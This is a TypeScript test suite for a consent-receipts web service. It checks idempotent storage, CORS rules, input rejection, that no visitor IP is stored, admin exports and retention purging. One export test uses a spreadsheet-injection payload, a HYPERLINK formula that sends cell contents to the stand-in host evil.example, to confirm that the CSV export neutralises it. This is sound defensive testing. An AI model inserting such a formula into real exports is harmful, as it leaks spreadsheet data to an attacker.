// The receipts service on both engines: accept/refuse, idempotency, CORS, no IP stored, exports,
// migrations. PostgreSQL tests skip (with a message) where PostgreSQL is not installed.
import { mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildService } from "../../../server/app.ts";
import { MIGRATIONS } from "../../../server/migrations.ts";
import { purgeExpired } from "../../../server/retention.ts";
import { openStore, type ReceiptStore } from "../../../server/store.ts";
import type { ConsentReceipt } from "../../../shared/consent/record.ts";
import { startTestPostgres, type TestPostgres } from "../../support/postgres.ts";
import { testReceipt } from "../../support/receipt-fixture.ts";

const ORIGIN = "https://school.kz";
const TOKEN = "test-admin-token";
const MANIFEST_TEXT = readFileSync(
  new URL("../../fixtures/manifests/valid/minimal.json", import.meta.url),
  "utf8",
);

const receiptFor = (hash: string, overrides: Record<string, unknown> = {}) =>
  testReceipt(ORIGIN, hash, overrides);

// Started when the file loads (synchronously) so a missing PostgreSQL can skip its suite by name.
const startPostgres = (): TestPostgres | null => {
  try {
    return startTestPostgres();
  } catch (error) {
    console.warn(`PostgreSQL could not start: ${String(error)}`);
    return null;
  }
};
const postgresServer = startPostgres();
if (!postgresServer) console.warn("PostgreSQL is not available: the postgres receipts tests are skipped");
afterAll(() => postgresServer?.stop());

const engines = [
  {
    name: "sqlite",
    available: true,
    db: () => join(mkdtempSync(join(tmpdir(), "kelisim-receipts-")), "receipts.sqlite"),
  },
  { name: "postgres", available: postgresServer !== null, db: () => postgresServer?.url ?? "" },
];

describe.each(engines)("receipts service on $name", ({ name, available, db }) => {
  let store: ReceiptStore;
  let app: ReturnType<typeof buildService>;
  let hash: string;
  let dbPath = "";
  if (!available)
    return it.skip("needs PostgreSQL (apt-get install postgresql, or KELISIM_TEST_POSTGRES_URL)");
  beforeAll(async () => {
    dbPath = db() as string;
    store = await openStore(dbPath);
    await store.migrate();
    // The service is offline here: the manifest reaches it by upload, and refetching is off.
    app = buildService({ store, origins: [ORIGIN], adminToken: TOKEN, manifestRefetchMs: 1e12 });
    const upload = await app.inject({
      method: "POST",
      url: `/admin/manifests?origin=${encodeURIComponent(ORIGIN)}`,
      headers: { authorization: `Bearer ${TOKEN}`, "content-type": "application/json" },
      payload: MANIFEST_TEXT,
    });
    expect(upload.statusCode).toBe(201);
    hash = upload.json().hash;
  }, 60_000);
  afterAll(async () => {
    await app?.close();
    await store?.close();
  });

  const post = (body: unknown, origin = ORIGIN) =>
    app.inject({
      method: "POST",
      url: "/receipts",
      headers: { origin, "content-type": "application/json" },
      payload: typeof body === "string" ? body : JSON.stringify(body),
    });

  it("migrations are versioned and re-running them applies nothing", async () => {
    expect(await store.migrate()).toBe(0);
    expect(MIGRATIONS.map((m) => m.version)).toEqual([1, 2]);
  });

  it("stores a widget receipt with CORS for its origin, no cookie, and is idempotent on receipt id", async () => {
    const receipt = receiptFor(hash);
    const first = await post(receipt);
    expect(first.statusCode).toBe(201);
    expect(first.headers["access-control-allow-origin"]).toBe(ORIGIN);
    expect(first.headers["set-cookie"]).toBeUndefined();
    const replay = await post(receipt);
    expect(replay.statusCode).toBe(200);
    expect(replay.json().outcome).toBe("duplicate");
    const exported = await store.byOriginAndPeriod(ORIGIN, "2000-01-01T00:00:00Z", "2100-01-01T00:00:00Z");
    expect(exported.filter((row) => row.receipt.receiptId === receipt.receiptId)).toHaveLength(1);
  });

  it("a replayed id with other content (even another month's created) is 409 and changes nothing", async () => {
    const receipt = receiptFor(hash);
    expect((await post(receipt)).statusCode).toBe(201);
    const earlier = Date.now() - 40 * 86_400_000;
    for (const forged of [
      { ...receipt, method: "reject-all", choices: { analytics: false } },
      // Another partition on PostgreSQL: caught by the id, not by the (id, created) key.
      {
        ...receipt,
        created: new Date(earlier).toISOString(),
        expires: new Date(earlier + 365 * 86_400_000).toISOString(),
      },
    ]) {
      const response = await post(forged);
      expect(response.statusCode).toBe(409);
      expect(response.json().error).toBe("receipt-id-taken");
    }
    const rows = await store.byOriginAndPeriod(ORIGIN, "2000-01-01T00:00:00Z", "2100-01-01T00:00:00Z");
    expect(
      rows.filter((row) => row.receipt.receiptId === receipt.receiptId).map((row) => row.receipt),
    ).toEqual([receipt]);
  });

  it("the same receipt with its members in another order is a duplicate, not a conflict", async () => {
    const receipt = receiptFor(hash);
    expect((await post(receipt)).statusCode).toBe(201);
    const reordered = Object.fromEntries(Object.entries(receipt).reverse());
    const replay = await post(reordered);
    expect(replay.statusCode).toBe(200);
    expect(replay.json().outcome).toBe("duplicate");
  });

  it("a batch written at once: outcomes per receipt, a repeated id inside one batch stored once", async () => {
    const a = receiptFor(hash) as unknown as ConsentReceipt;
    const b = receiptFor(hash) as unknown as ConsentReceipt;
    const at = new Date().toISOString();
    expect(
      await store.insertReceipts([
        { receipt: a, receivedAt: at },
        { receipt: b, receivedAt: at },
        { receipt: a, receivedAt: at },
        { receipt: { ...b, method: "reject-all" }, receivedAt: at },
      ]),
    ).toEqual(["stored", "stored", "duplicate", "conflict"]);
    expect((await store.byId(a.receiptId))?.receipt).toEqual(a);
    expect((await store.byId(b.receiptId))?.receipt).toEqual(b);
  });

  it("answers the CORS preflight only for allowed origins", async () => {
    const allowed = await app.inject({ method: "OPTIONS", url: "/receipts", headers: { origin: ORIGIN } });
    expect(allowed.statusCode).toBe(204);
    expect(allowed.headers["access-control-allow-origin"]).toBe(ORIGIN);
    const stranger = await app.inject({
      method: "OPTIONS",
      url: "/receipts",
      headers: { origin: "https://evil.kz" },
    });
    expect(stranger.statusCode).toBe(403);
    expect(stranger.headers["access-control-allow-origin"]).toBeUndefined();
  });

  it("refuses bad input with a 4xx and stores nothing", async () => {
    const before = (await store.byOriginAndPeriod(ORIGIN, "2000-01-01T00:00:00Z", "2100-01-01T00:00:00Z"))
      .length;
    const cases = [
      [await post("{not json"), 400],
      [await post({ ...receiptFor(hash), pad: "x".repeat(20_000) }), 413],
      [await post(receiptFor(hash), "https://evil.kz"), 403],
      [await post(receiptFor("0".repeat(64))), 422],
      [await post(receiptFor(hash, { origin: "https://other.kz" })), 422],
      [await post(receiptFor(hash, { method: "maybe" })), 400],
      [await post(receiptFor(hash, { extra: 1 })), 400],
      [await post(receiptFor(hash, { created: "2001-01-01T00:00:00Z" })), 422],
    ] as const;
    for (const [response, status] of cases) expect(response.statusCode).toBe(status);
    const after = (await store.byOriginAndPeriod(ORIGIN, "2000-01-01T00:00:00Z", "2100-01-01T00:00:00Z"))
      .length;
    expect(after).toBe(before);
  });

  it("a receipt no database can store is refused alone: the valid ones sent with it are stored", async () => {
    const created = new Date().toISOString();
    const day = created.slice(0, 10);
    const bad = [
      // A leap second matches the schema's date-time, but is no instant (Date.parse: NaN).
      { expires: `${Number(day.slice(0, 4)) + 1}-06-30T23:59:60Z` },
      { created: `${day}T23:59:60Z` },
      { expires: "0000-01-01T00:00:00Z" },
      { expires: new Date(Date.now() - 1000).toISOString() },
      { expires: new Date(Date.now() + 10 * 365 * 86_400_000).toISOString() },
      { manifestVersion: "a\u0000b" },
      { widgetVersion: "\ud800" },
      { choices: { "\udfffx": true } },
      { origin: "HTTPS://school.kz" },
      { origin: `${ORIGIN}/path?q=1` },
    ];
    const good = Array.from({ length: 4 }, () => receiptFor(hash));
    // All at once, so they share the group commit's batches.
    const responses = await Promise.all([
      ...good.map((receipt) => post(receipt)),
      ...bad.map((overrides) => post(receiptFor(hash, overrides))),
    ]);
    expect(responses.map((response) => response.statusCode)).toEqual([
      ...good.map(() => 201),
      ...bad.map(() => 422),
    ]);
    for (const receipt of good) expect((await store.byId(receipt.receiptId))?.receipt).toEqual(receipt);
  });

  it("the same id sent twice at once, in two months, is stored once (no race between batches)", async () => {
    const lastMonth = new Date(Date.now() - 35 * 86_400_000).toISOString();
    for (let round = 0; round < 20; round++) {
      const receipt = receiptFor(hash) as unknown as ConsentReceipt;
      const other = { ...receipt, created: lastMonth, method: "reject-all" } as ConsentReceipt;
      const at = new Date().toISOString();
      const outcomes = (
        await Promise.all([
          store.insertReceipts([{ receipt, receivedAt: at }]),
          store.insertReceipts([{ receipt: other, receivedAt: at }]),
        ])
      ).flat();
      expect(outcomes.sort()).toEqual(["conflict", "stored"]);
      const rows = await store.byOriginAndPeriod(ORIGIN, "2000-01-01T00:00:00Z", "2100-01-01T00:00:00Z");
      expect(rows.filter((row) => row.receipt.receiptId === receipt.receiptId)).toHaveLength(1);
    }
  });

  it("exports in CSV with spreadsheet formulas neutralised", async () => {
    const receipt = receiptFor(hash, {
      manifestVersion: '=HYPERLINK("http://evil.example/?"&A1,"x")',
      widgetVersion: "@SUM(1+1)",
    });
    expect((await post(receipt)).statusCode).toBe(201);
    const csv = await app.inject({
      url: `/admin/receipts/${receipt.receiptId}?format=csv`,
      headers: { authorization: `Bearer ${TOKEN}` },
    });
    const cells = csv.body.split("\r\n")[1] ?? "";
    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(cells).toContain(",'@SUM(1+1),");
    expect(cells).not.toMatch(/(^|,)[=@]/);
  });

  it("admin lookups that are not receipt ids or dates get 4xx, not a database error", async () => {
    const headers = { authorization: `Bearer ${TOKEN}` };
    expect((await app.inject({ url: "/admin/receipts/not-a-uuid", headers })).statusCode).toBe(404);
    const period = (to: string) =>
      app.inject({
        url: `/admin/receipts?origin=${encodeURIComponent(ORIGIN)}&from=2000-01-01&to=${to}`,
        headers,
      });
    expect((await period("99999-01-01")).statusCode).toBe(400);
    expect((await period("2100-01-01")).statusCode).toBe(200);
  });

  it("never stores the visitor's IP address", async () => {
    const receipt = receiptFor(hash);
    const response = await app.inject({
      method: "POST",
      url: "/receipts",
      remoteAddress: "203.0.113.77",
      headers: { origin: ORIGIN, "content-type": "application/json", "x-forwarded-for": "198.51.100.9" },
      payload: JSON.stringify(receipt),
    });
    expect(response.statusCode).toBe(201);
    const row = await store.byId(receipt.receiptId);
    const dump = JSON.stringify(row);
    expect(dump).not.toContain("203.0.113.77");
    expect(dump).not.toContain("198.51.100.9");
    if (name === "sqlite") {
      // The database file and its WAL, byte for byte.
      const bytes = [dbPath, `${dbPath}-wal`].map((file) => readFileSync(file).toString("latin1")).join("");
      expect(bytes).toContain(receipt.receiptId);
      expect(bytes).not.toContain("203.0.113.77");
    }
  });

  it("exports by receipt id and by origin+period as JSON and CSV with the manifest text", async () => {
    const receipt = receiptFor(hash);
    expect((await post(receipt)).statusCode).toBe(201);
    const headers = { authorization: `Bearer ${TOKEN}` };
    expect((await app.inject({ url: `/admin/receipts/${receipt.receiptId}` })).statusCode).toBe(401);
    const byId = await app.inject({ url: `/admin/receipts/${receipt.receiptId}`, headers });
    expect(byId.json().receipts[0].receiptId).toBe(receipt.receiptId);
    expect(byId.json().manifests[hash]).toBe(MANIFEST_TEXT);
    const period = `origin=${encodeURIComponent(ORIGIN)}&from=2000-01-01&to=2100-01-01`;
    const json = await app.inject({ url: `/admin/receipts?${period}`, headers });
    expect(json.json().receipts.map((r: { receiptId: string }) => r.receiptId)).toContain(receipt.receiptId);
    const csv = await app.inject({ url: `/admin/receipts?${period}&format=csv`, headers });
    expect(csv.headers["content-type"]).toContain("text/csv");
    const lines = csv.body.split("\r\n");
    expect(lines[0]).toMatch(/^receiptId,origin,created,/);
    expect(csv.body).toContain(receipt.receiptId);
    expect(csv.body).toContain(
      JSON.stringify(MANIFEST_TEXT.split("\n")[0]).slice(1, 10).replaceAll('"', '""'),
    );
  });

  it("purge deletes receipts whose consent expired more than 3 years ago", async () => {
    const receipt = receiptFor(hash);
    expect((await post(receipt)).statusCode).toBe(201);
    const later = new Date(Date.now() + 5 * 365 * 86_400_000);
    expect(await purgeExpired(store, 3, later)).toBeGreaterThan(0);
    expect(await store.byId(receipt.receiptId)).toBeNull();
  });
});
